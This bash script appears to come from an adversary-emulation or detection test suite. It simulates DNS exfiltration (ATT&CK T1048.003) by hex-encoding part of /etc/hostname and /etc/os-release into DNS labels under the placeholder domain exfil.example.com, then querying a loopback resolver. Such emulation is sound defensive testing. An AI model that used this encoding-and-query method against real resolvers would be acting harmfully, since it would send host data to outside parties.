#!/bin/bash
# technique: T1048.003
# tactic: exfiltration
# what: a file's content hex-encoded into long DNS labels and queried (to a loopback resolver)
# source: ART T1048 #4 "Exfiltrate Data using DNS Queries via dig", T1048.003 #3
# cleanup: nothing persists
. "$(dirname "$0")/lib.sh"
data=$(head -c 40 /etc/hostname /etc/os-release | xxd -p | tr -d '\n' | head -c 120)
python3 "$VG_LIB_DIR/helpers/dnsquery.py" 127.0.0.53 "${data:0:60}.${data:60:60}.exfil.example.com"
